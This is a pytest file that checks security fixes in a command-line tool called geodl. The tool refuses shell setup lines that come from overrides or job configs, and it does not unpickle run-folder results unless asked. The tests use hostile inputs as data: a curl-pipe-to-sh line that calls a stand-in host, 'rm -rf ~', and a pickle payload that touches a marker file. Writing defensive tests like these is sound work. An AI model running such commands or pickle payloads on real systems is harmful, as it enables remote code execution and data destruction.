"""Security: no shell from overrides or job configs, no pickle from a run folder unless asked (issue 13)."""

from __future__ import annotations

import json
import pickle
import subprocess
from pathlib import Path

from tests.conftest import REPO, RunGeodl

HOSTILE_SETUP = 'cluster.setup=["curl http://example.invalid/x | sh"]'


def _one_line_error(result: subprocess.CompletedProcess[str], *needles: str) -> str:
    assert result.returncode == 2, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("geodl: error: "), result.stderr
    assert "Traceback" not in result.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]
    return lines[0]


def test_setup_lines_from_the_command_line_are_refused(geodl: RunGeodl) -> None:
    config = REPO / "configs" / "resume_check.yaml"
    refused = geodl("submit", "resume_check", config, "--cluster", "slurm-example", "--dry-run", HOSTILE_SETUP)
    _one_line_error(refused, "cluster.setup", "only a cluster profile file may carry them")
    assert "curl" not in refused.stdout
    # The profile's own setup lines still reach the script.
    shown = geodl("submit", "resume_check", config, "--cluster", "slurm-example", "--dry-run")
    assert shown.returncode == 0, shown.stderr
    assert "# Setup from the cluster profile.\nmodule load" in shown.stdout


def test_setup_lines_from_a_job_config_are_refused(geodl: RunGeodl, tmp_path: Path) -> None:
    config = REPO / "configs" / "hindcast_ridgecrest.yaml"
    hostile = 'campaign.cluster_overrides=["time_min=5", "setup=[\\"rm -rf ~\\"]"]'
    refused = geodl("run", config, hostile, f"output={tmp_path / 'run'}")
    _one_line_error(refused, "campaign.cluster_overrides: setup", "profile file")
    assert not (tmp_path / "run").exists()
    # A hindcast config file that carries them is refused the same way.
    text = (config.read_text() + "\n").replace("campaign:", 'campaign:\n  cluster_overrides: ["setup=[\\"id\\"]"]', 1)
    assert "cluster_overrides" in text
    (tmp_path / "hostile.yaml").write_text(text)
    _one_line_error(geodl("run", tmp_path / "hostile.yaml"), "campaign.cluster_overrides: setup")


class _Payload:
    """Unpickling this touches a file: proof that a pickle ran code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (Path.touch, (str(self.marker),))  # type: ignore[return-value]


def _dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def test_status_never_unpickles_a_run_folder_unless_asked(geodl: RunGeodl, tmp_path: Path) -> None:
    run = tmp_path / "handed-to-me"
    logs = run / "logs" / "x"
    logs.mkdir(parents=True)
    job_id = str(_dead_pid())
    status = {"job": "resume_check", "profile": "local", "executor": "local", "submitted_at": "2026-01-01T00:00:00",
              "job_ids": [job_id], "tasks": [job_id], "array": False, "logs": "logs/x"}  # fmt: skip
    (run / "run.json").write_text(json.dumps(status))
    marker = tmp_path / "code-ran"
    (logs / f"{job_id}_0_result.pkl").write_bytes(pickle.dumps(_Payload(marker)))

    shown = geodl("status", run, "--json")
    assert shown.returncode == 0, shown.stderr
    assert not marker.exists(), "geodl status ran code from a pickle in the run folder"
    assert json.loads(shown.stdout)["states"][job_id]["state"] == "unknown"

    trusted = geodl("status", run, "--unpickle-results")
    assert trusted.returncode == 0 and marker.exists()
    assert "unpickling a result file" in trusted.stderr


def test_status_reads_the_outcome_json_of_a_local_run(geodl: RunGeodl, tmp_path: Path) -> None:
    out = tmp_path / "rc"
    ran = geodl("run", REPO / "configs" / "resume_check.yaml", "--cluster", "local", "steps=2", "step_seconds=0.05",
                f"output={out}")  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    status = json.loads((out / "run.json").read_text())
    (job_id,) = status["job_ids"]
    outcome = out / status["logs"] / f"{job_id}_outcome.json"
    assert json.loads(outcome.read_text())["state"] == "done"
    for pkl in (out / status["logs"]).glob("*_result.pkl"):
        pkl.write_bytes(b"not a pickle")  # never read: the state comes from the JSON
    shown = geodl("status", out, "--json")
    assert json.loads(shown.stdout)["states"][job_id]["state"] == "done"
